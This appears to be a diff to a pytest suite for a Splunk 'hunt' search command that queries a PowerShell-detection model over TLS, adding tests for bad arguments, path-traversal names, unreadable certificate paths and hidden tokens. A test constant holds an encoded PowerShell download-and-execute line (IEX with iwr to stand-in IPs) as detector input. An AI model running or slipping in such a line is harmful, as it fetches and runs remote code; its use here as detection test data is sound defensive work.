@@ -1,27 +1,17 @@
 """| hunt as splunkd runs it, against the service over TLS."""
 
-import shutil
 import subprocess
 import sys
 from contextlib import suppress
-from pathlib import Path
 
 import pytest
 
 from app.spl.splunkd import Command, command, encoded
 from tests.encoding import b64
 from tests.running_service import runs, wait_until
+from tests.splunk_app.conftest import python_of_splunk
 
 COMMAND = f"powershell -enc {b64('IEX (iwr http://192.0.2.7/a); iwr http://192.0.2.8/b')}"
-
-
-def python_of_splunk(version: str) -> str:
-    """A Python of this version, where the machine has one."""
-    installed = (Path.home() / ".pyenv" / "versions").glob(f"{version}.*/bin/python{version}")
-    found = next(map(str, installed), None) or shutil.which(f"python{version}")
-    if not found or "shims" in found:
-        pytest.skip(f"there is no Python {version} here")
-    return found
 
 
 @pytest.mark.parametrize("version", ["3.9", "3.13"])
@@ -77,6 +67,9 @@ def test_two_hundred_thousand_rows_keep_their_order(app, rest, service):
     [
         ([], "ERROR hunt: name a model: ... | hunt <model> <field> ..."),
         (["powershell_ioc", "x=1", "x=2"], "write name=value, each name once"),
+        (["powershell_ioc", "=1"], "write name=value, each name once"),
+        (["algo=powershell_ioc", "n"], "name a model: ... | hunt <model> <field> ..."),
+        (["../x", "n"], "'../x' is no name of a model"),
     ],
 )
 def test_wrong_arguments_are_told_before_the_search_runs(app, rest, arguments, message):
@@ -118,7 +111,10 @@ def test_model_that_does_not_annotate_is_told(app, rest, service):
     [
         ({"ca_path": ""}, "is not to be trusted"),
         ({"ca_path": "/nowhere.pem"}, "cannot read the certificate"),
+        ({"ca_path": "/"}, "cannot read the certificate"),
+        ({"ca_path": "/etc/hostname"}, "cannot read the certificate"),
         ({"url": "container:5000"}, "write https://host:port on the setup page"),
+        ({"url": "https://container:5000/a b"}, "write https://host:port on the setup page"),
         ({"rows": "many"}, "rows = 'many' is no number"),
     ],
 )
@@ -131,14 +127,30 @@ def test_wrong_setup_is_told(app, rest, change, message):
     assert message in told[0]
 
 
-@pytest.mark.parametrize("token, message", [("", "there is no token"), ("x", "refuses the token")])
-def test_wrong_token_is_told(app, rest, token, message):
+@pytest.mark.parametrize(
+    "token, message",
+    [
+        ("", "there is no token"),
+        ("not-this-one", "refuses the token"),
+        ("not-\n-this-one", "line feeds or other characters"),
+        ("not-\u20ac-this-one", "line feeds or other characters"),
+    ],
+)
+def test_wrong_token_is_told_and_not_shown(app, rest, token, message):
     rest.token = token
     with command(app, "hunt") as hunt:
         told = hunt.getinfo(rest, "ioc_extract", "n").messages
         if not told:
             told = hunt.execute([{"n": "1"}], finished=True).messages
     assert message in told[0]
+    assert "this-one" not in "".join(told)
+
+
+def test_blanks_around_the_token_and_the_url_do_not_matter(app, rest):
+    rest.token, rest.conf["url"] = f"{rest.token}\n", f" {rest.conf['url']} "
+    with command(app, "hunt") as hunt:
+        hunt.getinfo(rest, "ioc_extract", "n")
+        assert hunt.execute([{"n": "1"}], finished=True).messages == []
 
 
 def test_field_that_no_event_has_is_warned_of(app, rest):
